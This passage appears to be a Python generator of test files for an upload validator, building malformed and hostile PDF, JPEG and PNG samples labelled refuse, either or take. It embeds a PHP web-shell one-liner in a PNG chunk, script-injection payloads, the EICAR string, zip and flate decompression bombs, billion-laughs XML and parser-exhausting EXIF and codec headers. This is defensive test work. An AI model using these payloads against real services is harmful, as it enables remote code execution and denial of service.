    "polyglot-png-pdf-in-text-chunk.png",
    "refuse",
    lambda: splice_png(chunk(b"tEXt", b"x\0\n" + page(text=False))),
    "as the JPEG comment case",
)
add(
    "polyglot-jpeg-html-comment.jpg",
    "either",
    lambda: with_seg(base_jpeg(), seg(0xFE, b"<html><script>alert(1)</script>")),
)
add("polyglot-png-php-text.png", "either", lambda: splice_png(chunk(b"tEXt", b"Comment\0<?php system($_GET['c']); ?>")))
add("wrong-empty.pdf", "refuse", lambda: b"")
add("wrong-empty.jpg", "refuse", lambda: b"")
add("wrong-one-byte.pdf", "refuse", lambda: b"%")
add("wrong-one-byte-ff.jpg", "refuse", lambda: b"\xff")
add("wrong-magic-only.pdf", "refuse", lambda: b"%PDF-")
add("wrong-magic-and-eof.pdf", "refuse", lambda: b"%PDF-1.7\n%%EOF\n")
add("wrong-magic-only.jpg", "refuse", lambda: b"\xff\xd8\xff")
add("wrong-soi-eoi.jpg", "refuse", lambda: b"\xff\xd8\xff\xd9")
add("wrong-magic-only.png", "refuse", lambda: SIG)
add("wrong-ihdr-iend-only.png", "refuse", lambda: SIG + ihdr(100, 100) + chunk(b"IEND", b""))
add("wrong-zeros-100k.jpg", "refuse", lambda: bytes(100_000))
add("wrong-random-100k.png", "refuse", lambda: random.Random(1).randbytes(100_000))
add("wrong-gif.jpg", "refuse", lambda: save(scan(400, 500).convert("P"), "GIF"))
add("wrong-tiff.pdf", "refuse", lambda: save(scan(mode="1"), "TIFF", compression="group4"))
add("wrong-bigtiff-header.png", "refuse", lambda: b"II\x2b\0\x08\0\0\0" + bytes(200))
add("wrong-bmp.png", "refuse", lambda: save(scan(200, 300), "BMP"))
add("wrong-webp.jpg", "refuse", lambda: b"RIFF\x24\0\0\0WEBPVP8 \x18\0\0\0" + bytes(24))
add(
    "wrong-heic.jpg",
    "refuse",
    lambda: b"\0\0\0\x18ftypheic\0\0\0\0mif1heic" + bytes(500),
    "iPhones send HEIC; outside the stated types",
)
add("wrong-mp4.jpg", "refuse", lambda: b"\0\0\0\x20ftypisom\0\0\2\0isomiso2avc1mp41" + bytes(500))
add("wrong-jp2.jpg", "refuse", lambda: save(scan(300, 400), "JPEG2000"))
add(
    "wrong-ico-png-inside.png",
    "refuse",
    lambda: b"\0\0\1\0\1\0\0\0\0\0\1\0\x20\0" + struct.pack("<II", len(base_png()), 22) + base_png(),
)
add(
    "wrong-svg.png",
    "refuse",
    lambda: b'<?xml version="1.0"?><svg xmlns="http://www.w3.org/2000/svg"><script>alert(1)</script></svg>',
)
add("wrong-html.pdf", "refuse", lambda: b"<!doctype html><script>alert(1)</script>" * 20)
add(
    "wrong-exe.pdf",
    "refuse",
    lambda: b"MZ\x90\0\3\0\0\0" + bytes(52) + b"\x80\0\0\0" + bytes(64) + b"PE\0\0" + bytes(2000),
)
add("wrong-elf.png", "refuse", lambda: b"\x7fELF\2\1\1" + bytes(2000))
add("wrong-zip.pdf", "refuse", _SMALLZIP)
add(
    "wrong-docx.pdf",
    "refuse",
    lambda: _zip({"[Content_Types].xml": b"<Types/>", "word/document.xml": b"<w:document/>"}),
)
add("wrong-zip-bomb.pdf", "refuse", lambda: _zip({"a": bytes(5_000_000)}))
add("wrong-postscript.pdf", "refuse", lambda: b"%!PS-Adobe-3.0\n{} loop\n")
add("wrong-rtf.pdf", "refuse", lambda: b"{\\rtf1\\ansi hello}")
add(
    "wrong-fdf.pdf",
    "refuse",
    lambda: (
        b"%FDF-1.2\n1 0 obj << /FDF << /F (http://example.invalid/x.pdf) >> >> endobj\ntrailer << /Root 1 0 R >>\n%%EOF"
    ),
)
add(
    "wrong-gzip-of-pdf.pdf",
    "refuse",
    lambda: (
        b"\x1f\x8b\x08\0\0\0\0\0\0\xff"
        + _raw(base_pdf(), zlib.Z_FINISH)
        + struct.pack("<II", zlib.crc32(base_pdf()), len(base_pdf()))
    ),
)
add("wrong-base64-of-jpeg.jpg", "refuse", lambda: base64.encodebytes(base_jpeg()))
add("wrong-mng.png", "refuse", lambda: b"\x8aMNG\r\n\x1a\n" + base_png()[8:])
add("wrong-png-crlf-damaged.png", "refuse", lambda: base_png().replace(b"\r\n", b"\n"))
add("wrong-pdf-utf16.pdf", "refuse", lambda: "%PDF-1.7\n%%EOF\n".encode("utf-16"))
add("wrong-eicar.pdf", "refuse", lambda: _EICAR)
add(
    "eicar-attached.pdf",
    "refuse",
    lambda: page(
        cat=b"/Names << /EmbeddedFiles << /Names [(e.com) 10 0 R] >> >>",
        extra=[b"<< /Type /Filespec /F (e.com) /EF << /F 11 0 R >> >>", stm(_EICAR, b"/Type /EmbeddedFile")],
    ),
)
add("eicar-unreferenced-stream.pdf", "either", lambda: page(extra=[stm(_EICAR)]), "only an anti-virus would object")
add(
    "eicar-in-comment.jpg",
    "either",
    lambda: with_seg(base_jpeg(), seg(0xFE, _EICAR)),
    "only an anti-virus would object",
)
add("eicar-after-eoi.jpg", "refuse", lambda: base_jpeg() + _EICAR, "a 68-byte trailer; could be cut off instead")
add("ok-name-lies-png-bytes.jpg", "either", base_png, "a true PNG called .jpg: bytes decide")

# ============================================================= image oddities

add("jpeg-truncated-10.jpg", "refuse", cut(base_jpeg, 0.1))
add(
    "jpeg-truncated-50.jpg",
    "refuse",
    cut(base_jpeg, 0.5),
    "half the picture is missing though decoders fill it with grey",
)
add("jpeg-no-eoi.jpg", "either", lambda: base_jpeg()[:-2])
add("jpeg-garbage-after-eoi-1k.jpg", "either", lambda: base_jpeg() + random.Random(2).randbytes(1000))
add("jpeg-zeros-after-eoi.jpg", "either", lambda: base_jpeg() + bytes(2000), "padding is common from cameras")
add(
    "jpeg-motion-photo.jpg",
    "either",
    lambda: base_jpeg() + b"\0\0\0\x18ftypmp42\0\0\0\0isommp42" + bytes(3000),
    "Samsung and Pixel phones really append an MP4",
)
add("jpeg-zero-width.jpg", "refuse", lambda: jpeg_flat(0, 600, cut=10))
add(
    "jpeg-zero-height.jpg",
    "refuse",
    lambda: jpeg_flat(800, 0, cut=10),
    "height 0 means 'DNL follows'; hardly any decoder supports it",
)
add(
    "jpeg-zero-components.jpg",
    "refuse",
    lambda: b"\xff\xd8" + JFIF + DQT + sof(0xC0, 800, 600, 0) + DHT + sos(0) + b"\xff\xd9",
)
add(
    "jpeg-255-components.jpg",
    "refuse",
    lambda: b"\xff\xd8" + JFIF + DQT + sof(0xC0, 800, 600, 255) + DHT + sos() + bytes(99) + b"\xff\xd9",
)
add("jpeg-cmyk.jpg", "either", lambda: save(scan(mode="CMYK"), "JPEG", quality=50), "legal, never from a scanner")
add("jpeg-12bit-sof1.jpg", "either", lambda: jpeg_flat(800, 600, 0xC1, 12), "many decoders cannot read it")
add("jpeg-arithmetic-sof9.jpg", "either", lambda: jpeg_flat(800, 600, 0xC9), "many decoders cannot read it")
add(
    "jpeg-lossless-sof3.jpg",
    "either",
    lambda: b"\xff\xd8" + DQT + sof(0xC3, 400, 300) + DHT + sos(1, 1, 0) + bytes(15000) + b"\xff\xd9",
)
add("jpeg-hierarchical-sof5.jpg", "refuse", lambda: jpeg_flat(800, 600, 0xC5))
add("jpeg-no-huffman-tables.jpg", "either", lambda: jpeg_flat(800, 600).replace(DHT, b""))
add(
    "jpeg-bad-huffman-table.jpg",
    "refuse",
    lambda: jpeg_flat(800, 600).replace(DHT, seg(0xC4, b"\x00" + b"\xff" * 16 + b"\0" * 255)),
)
add("jpeg-segment-length-0.jpg", "refuse", lambda: b"\xff\xd8\xff\xe0\0\0" + base_jpeg()[2:])
add("jpeg-segment-length-beyond-end.jpg", "refuse", lambda: b"\xff\xd8\xff\xe1\xff\xff" + b"x" * 100)
add("jpeg-fill-bytes-100k.jpg", "either", lambda: b"\xff\xd8" + b"\xff" * 100_000 + base_jpeg()[2:])
add("jpeg-sos-without-sof.jpg", "refuse", lambda: b"\xff\xd8" + JFIF + DQT + DHT + sos() + bytes(500) + b"\xff\xd9")
add(
    "jpeg-noise-in-scan.jpg",
    "either",
    lambda: base_jpeg()[:2000] + random.Random(5).randbytes(len(base_jpeg()) - 2002) + b"\xff\xd9",
)
add(
    "jpeg-exif-ifd-loop.jpg",
    "either",
    lambda: with_seg(base_jpeg(), exif(b"\0\1" + ent(0x112, 3, 1, 1 << 16) + struct.pack(">I", 8))),
)
add(
    "jpeg-exif-subifd-loop.jpg",
    "either",
    lambda: with_seg(
        base_jpeg(),
        exif(b"\0\3" + ent(0x112, 3, 1, 1 << 16) + ent(0x8769, 4, 1, 8) + ent(0x8825, 4, 1, 8) + struct.pack(">I", 8)),
    ),
)
add(
    "jpeg-exif-65535-entries.jpg",
    "either",
    lambda: with_seg(base_jpeg(), exif(b"\xff\xff" + ent(0x112, 3, 1, 1 << 16) * 5000)),
)
add(
    "jpeg-exif-count-4e9.jpg",
    "either",
    lambda: with_seg(
        base_jpeg(),
        exif(
            b"\0\3"
            + ent(0x10E, 2, 0xFFFFFFFF, 8)
            + ent(0x112, 3, 0xFFFFFFFF, 8)
            + ent(0x9286, 7, 0xFFFFFFFE, 0xFFFFFFFF)
            + bytes(4)
        ),
    ),
)
add(
    "jpeg-exif-orientation-77.jpg",
    "either",
    lambda: with_seg(base_jpeg(), exif(b"\0\1" + ent(0x112, 3, 1, 77 << 16) + bytes(4))),
)
add(
    "jpeg-exif-orientation-text.jpg",
    "either",
    lambda: with_seg(base_jpeg(), exif(b"\0\1" + ent(0x112, 2, 4, 0x41424300) + bytes(4))),
)
add(
    "jpeg-exif-resolution-zero-denominator.jpg",
    "either",
    lambda: with_seg(
        base_jpeg(),
        exif(
            b"\0\3"
            + ent(0x11A, 5, 1, 50)
            + ent(0x11B, 5, 1, 50)
            + ent(0x128, 3, 1, 2 << 16)
            + bytes(4)
            + struct.pack(">II", 300, 0)
        ),
    ),
)
add(
    "jpeg-jfif-density-zero.jpg",
    "either",
    lambda: base_jpeg().replace(b"JFIF\0\1\1\1\0\x64\0\x64", b"JFIF\0\1\1\1\0\0\0\0", 1),
)
add(
    "jpeg-jfif-density-65535.jpg",
    "either",
    lambda: base_jpeg().replace(b"JFIF\0\1\1\1\0\x64\0\x64", b"JFIF\0\1\1\1\xff\xff\xff\xff", 1),
)
add(
    "jpeg-icc-255-missing-parts.jpg",
    "either",
    lambda: with_seg(base_jpeg(), *(seg(0xE2, b"ICC_PROFILE\0" + bytes((i, 255)) + b"x" * 20) for i in (1, 1, 9, 255))),
)
add(
    "jpeg-icc-garbage.jpg",
    "either",
    lambda: with_seg(base_jpeg(), seg(0xE2, b"ICC_PROFILE\0\1\1" + random.Random(6).randbytes(500))),
)
add(
    "jpeg-xmp-billion-laughs.jpg",
    "either",
    lambda: with_seg(base_jpeg(), seg(0xE1, b"http://ns.adobe.com/xap/1.0/\0" + _LAUGHS)),
)
add(
    "jpeg-photoshop-8bim-broken.jpg",
    "either",
    lambda: with_seg(base_jpeg(), seg(0xED, b"Photoshop 3.0\x008BIM\x04\x04\xff" + b"\xff" * 30)),
)


@case("jpeg-mpo-two-pictures.jpg", "either", "phones write MPO; strictly it holds two pictures")
def _():
    return save(scan(600, 800), "MPO", save_all=True, append_images=[scan(400, 500)], quality=60)


add("png-truncated-50.png", "refuse", cut(base_png, 0.5))
add("png-no-iend.png", "either", lambda: base_png()[:-12])
add("png-wrong-crc-ihdr.png", "refuse", lambda: base_png()[:29] + b"\0\0\0\0" + base_png()[33:])
add(
    "png-wrong-crc-idat.png",
    "either",
    lambda: base_png()[:-16] + b"\0\0\0\0" + base_png()[-12:],
    "data is whole, only the checksum is wrong",
)
add("png-bad-zlib-in-idat.png", "refuse", lambda: png(500, 700, b"\x78\xda" + random.Random(8).randbytes(5000)))
add("png-idat-too-short.png", "refuse", lambda: png(1000, 1000, z(bytes(1001) * 10)))
add("png-bad-filter-bytes.png", "refuse", lambda: png(100, 100, z((b"\x09" + bytes(100)) * 100)))
add("png-data-after-iend-1k.png", "either", lambda: base_png() + random.Random(9).randbytes(1000))
add("png-zeros-after-iend.png", "either", lambda: base_png() + bytes(100))
add("png-zero-width.png", "refuse", lambda: png(0, 100, z(bytes(100))))
add("png-zero-height.png", "refuse", lambda: png(100, 0, z(b"")))
add("png-depth-3.png", "refuse", lambda: png(100, 100, z(bytes(10100)), 3, 0))
add("png-color-type-5.png", "refuse", lambda: png(100, 100, z(bytes(10100)), 8, 5))
add(
    "png-compression-method-9.png",
    "refuse",
    lambda: (
        SIG
        + chunk(b"IHDR", struct.pack(">IIBBBBB", 100, 100, 8, 0, 9, 9, 9))
        + chunk(b"IDAT", z(bytes(10100)))
        + chunk(b"IEND", b"")
    ),
)
add("png-palette-missing.png", "refuse", lambda: png(100, 100, z(bytes(10100)), 8, 3))
add(
    "png-palette-index-beyond.png",
    "either",
    lambda: png(100, 100, z((b"\0" + b"\xff" * 100) * 100), 8, 3, pre=chunk(b"PLTE", b"\0\0\0\xff\xff\xff")),
)
add("png-two-ihdr.png", "refuse", lambda: splice_png(ihdr(20000, 20000)), "a second IHDR of 400 MP")
add("png-first-chunk-not-ihdr.png", "refuse", lambda: SIG + chunk(b"tEXt", b"a\0b") + base_png()[8:])
add("png-chunk-length-ffffffff.png", "refuse", lambda: splice_png(b"\xff\xff\xff\xfftEXtabc"))
add(
    "png-unknown-critical-chunk.png",
    "either",
    lambda: splice_png(chunk(b"QuXX", b"abc")),
    "the standard wants an error",
)
add("png-cgbi-iphone.png", "either", lambda: SIG + chunk(b"CgBI", b"\x50\0\x20\2") + base_png()[8:])
add("png-fully-transparent.png", "either", lambda: png(200, 200, z((b"\0" + b"\0\0\0\0" * 200) * 200), 8, 6))
add("png-phys-4e9.png", "either", lambda: splice_png(chunk(b"pHYs", b"\xff\xff\xff\xff\xff\xff\xff\xff\1")))
add("png-phys-zero.png", "either", lambda: splice_png(chunk(b"pHYs", bytes(8) + b"\1")))
add("png-gamma-zero.png", "either", lambda: splice_png(chunk(b"gAMA", bytes(4))))
add(
    "png-exif-loop.png",
    "either",
    lambda: splice_png(chunk(b"eXIf", b"MM\0\x2a\0\0\0\x08\0\1" + ent(0x8769, 4, 1, 8) + struct.pack(">I", 8))),
)
add(
    "png-xmp-billion-laughs.png", "either", lambda: splice_png(chunk(b"iTXt", b"XML:com.adobe.xmp\0\0\0\0\0" + _LAUGHS))
)


@case("png-apng-3-frames.png", "either", "animated: more than one picture, though viewers without APNG show the first")
def _():
    return save(
        scan(400, 500),
        "PNG",
        save_all=True,
        append_images=[scan(400, 500).rotate(a, fillcolor=255) for a in (90, 180)],
        duration=100,
    )


add(
    "png-apng-header-4e9-frames.png",
    "either",
    lambda: splice_png(
        chunk(b"acTL", b"\xff\xff\xff\xff\0\0\0\0"),
        chunk(b"fcTL", struct.pack(">IIIIIHHBB", 0, 827, 1169, 0, 0, 0, 0, 0, 0)),
    ),
)

# ------------------------------------------------------------- images with exotic codecs inside a PDF


def _jb2_seg(num: int, typ: int, data: bytes, length: int | None = None) -> bytes:
    return struct.pack(">IBBBI", num, typ, 0, 1, len(data) if length is None else length) + data


def _jb2_page(w: int, h: int) -> bytes:
    return _jb2_seg(0, 48, struct.pack(">IIIIBH", w, h, 0, 0, 0, 0))


def _jb2_generic(w: int, h: int) -> bytes:
    return _jb2_seg(1, 38, struct.pack(">IIIIB", w, h, 0, 0, 0) + b"\0" + b"\3\xff\xfd\xff\2\xfe\xfe\xfe" + b"\0" * 40)


JB = b"/JBIG2Decode"
add("jbig2-garbage.pdf", "either", lambda: image_page(random.Random(10).randbytes(2000), 1654, 2339, JB, bpc=1))
add(
    "jbig2-page-4e9.pdf",
    "either",
    lambda: image_page(_jb2_page(0xFFFFFFFF, 0xFFFFFFFF) + _jb2_generic(0xFFFFFFFF, 0xFFFFFFFF), 1654, 2339, JB, bpc=1),
)
add(
    "jbig2-page-60000-declared-1654.pdf",
    "either",
    lambda: image_page(_jb2_page(60000, 60000) + _jb2_generic(60000, 60000), 1654, 2339, JB, bpc=1),
    "3.6-gigapixel region hidden behind an A4 declaration; broken data, so a refusal is better",
)
add(
    "jbig2-symbols-4e9.pdf",
    "either",
    lambda: image_page(
        _jb2_page(1654, 2339)
        + _jb2_seg(
            1,
            0,
            struct.pack(">H", 0)
            + b"\3\xff\xfd\xff\2\xfe\xfe\xfe"
            + struct.pack(">II", 0xFFFFFFFF, 0xFFFFFFFF)
            + bytes(50),
        ),
        1654,
        2339,
        JB,
        bpc=1,
    ),
)
add(
    "jbig2-segment-length-unknown.pdf",
    "either",
    lambda: image_page(_jb2_page(1654, 0xFFFFFFFF) + _jb2_seg(1, 38, bytes(60), 0xFFFFFFFF), 1654, 2339, JB, bpc=1),
)
add(
    "jbig2-globals-self.pdf",
    "either",
    lambda: image_page(_jb2_page(100, 100), 100, 100, JB, bpc=1, more=b"/DecodeParms << /JBIG2Globals 10 0 R >>"),
)
add(
    "jbig2-globals-bomb-2gb.pdf",
    "refuse",
    lambda: image_page(
        _jb2_page(100, 100),
        100,
        100,
        JB,
        bpc=1,
        more=b"/DecodeParms << /JBIG2Globals 11 0 R >>",
        extra=[stm(bomb(2 * GB, 2, b"\0"), b"", b"[%s %s]" % (FL, FL))],
    ),
)


def _j2k(w: int, h: int, tw: int, th: int, comps: int = 1, levels: int = 0) -> bytes:
    siz = struct.pack(">HIIIIIIIIH", 0, w, h, 0, 0, tw, th, 0, 0, comps) + b"\7\1\1" * comps
    return (
        b"\xff\x4f"
        + seg(0x51, siz)
        + seg(0x52, b"\0\0\0\1\0" + bytes((levels,)) + b"\4\4\0\1")
        + seg(0x5C, b"\x20" + b"\x38" * (3 * levels + 1))
        + b"\xff\x90\0\x0a\0\0\0\0\0\0\0\1\xff\x93"
        + bytes(30)
        + b"\xff\xd9"
    )


JPX = b"/JPXDecode"
add("jpx-garbage.pdf", "either", lambda: image_page(random.Random(11).randbytes(2000), 1654, 2339, JPX))
add(
    "jpx-header-4e9.pdf",
    "refuse",
    lambda: image_page(_j2k(0xFFFFFFFF, 0xFFFFFFFF, 0xFFFFFFFF, 0xFFFFFFFF), 1654, 2339, JPX),
    "undecodable; a page without that picture may also be taken",
)
add(
    "jpx-billions-of-tiles.pdf",
    "refuse",
    lambda: image_page(_j2k(0x7FFFFFFF, 0x7FFFFFFF, 1, 1), 1654, 2339, JPX),
    "as above",
)
add(
    "jpx-177mp-declared-1654.pdf",
    "refuse",
    lambda: image_page(_j2k(13312, 13312, 13312, 13312, 3), 1654, 2339, JPX, b"/DeviceRGB"),
    "as above",
)
add("jpx-16384-components.pdf", "either", lambda: image_page(_j2k(1654, 2339, 1654, 2339, 16384), 1654, 2339, JPX))
add("jpx-33-levels.pdf", "either", lambda: image_page(_j2k(1654, 2339, 1654, 2339, 1, 33), 1654, 2339, JPX))
CC = b"/CCITTFaxDecode"
add(
    "ccitt-columns-rows-2e31.pdf",
    "either",
    lambda: image_page(
        bytes(200), 1654, 2339, CC, bpc=1, more=b"/DecodeParms << /K -1 /Columns 2147483647 /Rows 2147483647 >>"
    ),
)
add(
    "ccitt-columns-1e9-declared-1654.pdf",
    "either",
    lambda: image_page(
        random.Random(12).randbytes(3000),
        1654,
        2339,
        CC,
        bpc=1,
        more=b"/DecodeParms << /K 0 /Columns 1000000000 /Rows 2339 /EndOfBlock false >>",
    ),
)
add(
    "ccitt-60000x60000.pdf",
    "refuse",
    lambda: image_page(
        b"\xff" * 7500,
        60000,
        60000,
        CC,
        bpc=1,
        more=b"/DecodeParms << /K -1 /Columns 60000 /Rows 60000 /BlackIs1 true >>",
    ),
)
add(
    "ccitt-negative.pdf",
    "either",
    lambda: image_page(
        bytes(200),
        1654,
        2339,
        CC,
        bpc=1,
        more=b"/DecodeParms << /K -1 /Columns -5 /Rows -5 /DamagedRowsBeforeError 2147483647 >>",
    ),
)
add(
    "ccitt-flate-zero-bomb-2gb.pdf",
    "refuse",
    lambda: image_page(
        bomb(2 * GB, 2, b"\0"),
        1654,
        2339,
        b"[%s %s %s]" % (FL, FL, CC),
        bpc=1,
        more=b"/DecodeParms [null null << /K 0 /Columns 1654 /Rows 2339 >>]",
    ),
)
add("dct-in-dct.pdf", "either", lambda: image_page(base_jpeg(), 827, 1169, b"[/DCTDecode /DCTDecode]"))
add("dct-cut-to-header.pdf", "either", lambda: image_page(base_jpeg()[:600], 827, 1169, b"/DCTDecode"))
add("dct-is-png.pdf", "either", lambda: image_page(base_png(), 827, 1169, b"/DCTDecode"))
add("image-bpc-200.pdf", "either", lambda: image_page(z(bytes(1000)), 100, 100, FL, bpc=200))
add(
    "image-decode-array-1e5.pdf",
    "either",
    lambda: image_page(z(bytes(10000)), 100, 100, FL, more=b"/Decode [" + b"1e9 -1e9 " * 50000 + b"]"),
)

# ============================================================= legitimate oddities: must be taken


@case("take-a3-300dpi.jpg", "take")
def _():
    return save(scan(3508, 4961), "JPEG", quality=40, dpi=(300, 300))


@case("take-59.9mp-grey.jpg", "take", "just under the 60 MP limit; slow to OCR")
def _():
    return save(scan(7739, 7739), "JPEG", quality=25, dpi=(600, 600))


add(
    "take-progressive.jpg",
    "take",
    lambda: save(scan(1654, 2339, "RGB"), "JPEG", quality=50, progressive=True, dpi=(200, 200)),
)
add("take-restart-markers.jpg", "take", lambda: save(scan(), "JPEG", quality=60, restart_marker_rows=1))


@case("take-exif-rotated-photo.jpg", "take")
def _():
    from PIL import Image

    im = scan(1200, 1700, "RGB").transpose(Image.Transpose.ROTATE_90)
    e = Image.Exif()
    e[0x0112] = 6
    e[0x010F] = "Samsung"
    e[0x0132] = "2024:03:12 08:00:00"
    return save(im, "JPEG", quality=60, exif=e)


@case("take-exif-orientation-mirrored-7.jpg", "take", "orientation 7 is legal but rare")
def _():
    from PIL import Image

    im = scan(1200, 1700, "L").transpose(Image.Transpose.TRANSVERSE)
    e = Image.Exif()
    e[0x0112] = 7
    return save(im, "JPEG", quality=60, exif=e)


@case("take-icc-xmp-photoshop-segments.jpg", "take")
def _():
    from PIL import ImageCms

    icc = bytearray(ImageCms.ImageCmsProfile(ImageCms.createProfile("sRGB")).tobytes())
    icc[24:36] = struct.pack(">6H", 2024, 1, 1, 0, 0, 0)  # creation date: keep deterministic
    icc[84:100] = bytes(16)
    return with_seg(
        save(scan(mode="RGB"), "JPEG", quality=60, icc_profile=bytes(icc)),
        seg(0xED, b"Photoshop 3.0\x008BIM\x03\xed\0\0\0\0\0\x10\0\xc8\0\0\0\1\0\1\0\xc8\0\0\0\1\0\1"),
        seg(0xE1, b"http://ns.adobe.com/xap/1.0/\0<x:xmpmeta xmlns:x='adobe:ns:meta/'/>"),
    )


@case("take-16bit-grey.png", "take")
def _():
    im = scan()
    w, h = im.size
    raw = im.tobytes()
    rows = []
    for y in range(h):
        line = raw[y * w : (y + 1) * w]
        two = bytearray(2 * w)
        two[0::2] = line
        two[1::2] = line
        rows.append(b"\0" + bytes(two))
    return png(w, h, z(b"".join(rows)), 16, 0)


add("take-palette.png", "take", lambda: save(scan(1654, 2339, "RGB").quantize(16), "PNG", dpi=(200, 200)))
add("take-1bit-300dpi.png", "take", lambda: save(scan(2480, 3508, "1"), "PNG", dpi=(300, 300)))
add("take-rgba-opaque-background.png", "take", lambda: save(scan(mode="RGBA"), "PNG"))


@case(
    "take-grey-alpha-transparent-background.png",
    "take",
    "dark text on a transparent ground: must not turn black on black",
)
def _():
    from PIL import Image, ImageOps

    g = scan()
    return save(Image.merge("LA", (Image.new("L", g.size, 0), ImageOps.invert(g))), "PNG")


@case("take-interlaced.png", "take")
def _():
    im = scan()
    w, h = im.size
    raw = im.tobytes()
    out = bytearray()
    for x, y, dx, dy in ADAM7:
        for yy in range(y, h, dy):
            out += b"\0" + raw[yy * w + x : (yy + 1) * w : dx]
    return png(w, h, z(bytes(out)), 8, 0, 1)


def _scan_pdf(
    img: bytes,
    w: int,
    h: int,
    filt: bytes,
    cs: bytes = b"/DeviceGray",
    bpc: int = 8,
    more: bytes = b"",
    pg: bytes = b"",
    extra_content: bytes = b"",
) -> bytes:
    o = {
        1: b"<< /Type /Catalog /Pages 2 0 R >>",
        2: b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
        3: b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] /Contents 4 0 R /Resources << /XObject << /Im0 10 0 R >> "
        b"/Font << /F1 5 0 R >> >> " + pg + b" >>",
        4: stm(b"q 595 0 0 842 0 0 cm /Im0 Do Q\n" + extra_content),
        10: image_obj(img, w, h, filt, cs, bpc, more),
    }
    o.update({5 + i: b for i, b in enumerate(font_objs(5))})
    return write_pdf(o, ver=b"1.5")


add(
    "take-one-jpeg.pdf",
    "take",
    lambda: _scan_pdf(save(scan(1654, 2339), "JPEG", quality=50), 1654, 2339, b"/DCTDecode"),
)
add(
    "take-one-jpeg-flate-wrapped.pdf",
    "take",
    lambda: _scan_pdf(z(save(scan(1654, 2339), "JPEG", quality=50)), 1654, 2339, b"[%s /DCTDecode]" % FL),
    "two filters in a row, as some scanners write",
)
add(
    "take-one-jpeg-pillow.pdf",
    "take",
    lambda: save(scan(1654, 2339, "RGB"), "PDF", resolution=200, quality=50, creationDate=_TIME, modDate=_TIME),
)
add(
    "take-scan-with-invisible-ocr-text.pdf",
    "take",
    lambda: _scan_pdf(
        save(scan(1654, 2339), "JPEG", quality=50), 1654, 2339, b"/DCTDecode", extra_content=text_content(mode=3)
    ),
)
add(
    "take-rotated-90.pdf",
    "take",
    lambda: (
        _scan_pdf(
            save(scan(1654, 2339).rotate(90, expand=True), "JPEG", quality=50),
            2339,
            1654,
            b"/DCTDecode",
            pg=b"/Rotate 90",
        )
        .replace(b"[0 0 595 842]", b"[0 0 842 595]")
        .replace(b"595 0 0 842 0 0 cm", b"842 0 0 595 0 0 cm")
    ),
)


@case("take-ccitt-g4.pdf", "take")
def _():
    from PIL import Image

    t = save(scan(1654, 2339, "1"), "TIFF", compression="group4", tiffinfo={278: 2339})
    with Image.open(io.BytesIO(t)) as im:
        off, n, photo = im.tag_v2[273], im.tag_v2[279], im.tag_v2[262]
    assert len(off) == 1
    return _scan_pdf(
        t[off[0] : off[0] + n[0]],
        1654,
        2339,
        CC,
        bpc=1,
        more=b"/DecodeParms << /K -1 /Columns 1654 /Rows 2339 /BlackIs1 %s >>" % (b"true" if photo == 1 else b"false"),
    )


add(
    "take-jpx-scan.pdf",
    "take",
    lambda: _scan_pdf(
        save(scan(1654, 2339), "JPEG2000", quality_mode="rates", quality_layers=[30], irreversible=True),
        1654,
        2339,
        JPX,
    ),
    "JPEG 2000 picture: legal PDF 1.5 and PDF/A-2, made by some scanners",
)
add(
    "take-ascii85-flate-content.pdf",
    "take",
    lambda: page(over={4: stm(base64.a85encode(z(text_content())) + b"~>", b"", b"[/ASCII85Decode %s]" % FL)}),
)
add("take-lzw-content.pdf", "take", lambda: page(over={4: stm(lzw_encode(text_content() * 3), b"", b"/LZWDecode")}))
add(
    "take-runlength-image.pdf",
    "take",
    lambda: _scan_pdf(_rle(scan(827, 1169).tobytes()), 827, 1169, b"/RunLengthDecode"),
)
add(
    "take-flate-png-predictor-image.pdf",
    "take",
    lambda: _scan_pdf(
        z(b"".join(b"\0" + r for r in _rows(scan(1654, 2339, "L")))),
        1654,
        2339,
        FL,
        more=b"/DecodeParms << /Predictor 15 /Columns 1654 /Colors 1 >>",
    ),
)


@case("take-object-streams.pdf", "take")
def _():
    import pikepdf

    return _pike(many_pages(3), object_stream_mode=pikepdf.ObjectStreamMode.generate)


add("take-linearized.pdf", "take", lambda: _pike(many_pages(3), linearize=True))
add(
    "take-nested-forms-3-deep.pdf",
    "take",
    lambda: page(
        b"q /Head Do Q q 1 0 0 1 0 -700 cm /Head Do Q",
        xobj=b"/Head 10 0 R",
        extra=[
            form(
                b"q /Logo Do Q BT /F1 9 Tf 60 810 Td (UBND phuong 1) Tj ET",
                b"/XObject << /Logo 11 0 R >> /Font << /F1 5 0 R >>",
            ),
            form(b"q 1 0 0 1 450 780 cm /Star Do Q 0.8 0 0 rg 500 780 60 40 re f", b"/XObject << /Star 12 0 R >>"),
            form(b"1 1 0 rg 20 0 m 26 14 l 40 14 l 29 23 l 33 37 l 20 28 l 7 37 l 11 23 l 0 14 l 14 14 l f"),
        ],
    ),
)


@case("take-100-pages-a4-text.pdf", "take")
def _():
    o = {
        1: b"<< /Type /Catalog /Pages 2 0 R >>",
        2: b"<< /Type /Pages /Count 100 /Kids ["
        + b" ".join(b"%d 0 R" % (10 + 2 * i) for i in range(100))
        + b"] /MediaBox [0 0 595 842] /Resources << /Font << /F1 5 0 R >> >> >>",
    }
    o.update({5 + i: b for i, b in enumerate(font_objs(5))})
    for i in range(100):
        o[10 + 2 * i] = b"<< /Type /Page /Parent 2 0 R /Contents %d 0 R >>" % (11 + 2 * i)
        o[11 + 2 * i] = zs(text_content(f"Trang {i + 1} / 100"))
    return write_pdf(o)


add(
    "take-link-annotations-uri.pdf",
    "take",
    lambda: page(
        pg=b"/Annots [10 0 R 11 0 R 12 0 R]",
        extra=[
            b"<< /Type /Annot /Subtype /Link /Rect [60 740 300 775] /Border [0 0 0] /A << /S /URI /URI (https://dichvucong.gov.vn/) >> >>",
            b"<< /Type /Annot /Subtype /Link /Rect [60 700 300 720] /Border [0 0 0] /A << /S /URI /URI (mailto:ubnd@example.vn) >> >>",
            b"<< /Type /Annot /Subtype /Link /Rect [60 600 300 620] /Border [0 0 0] /Dest [3 0 R /XYZ 0 842 0] >>",
        ],
    ),
)
add(
    "take-born-digital-embedded-font.pdf",
    "take",
    lambda: page(
        b"0.2 0.4 0.8 rg 60 300 200 80 re f 1 w 0 G 60 100 400 150 re S BT 0 g /F1 22 Tf 70 200 Td (Bang ke) Tj ET"
    ),
)
add(
    "take-born-digital-helvetica-not-embedded.pdf",
    "take",
    lambda: page(
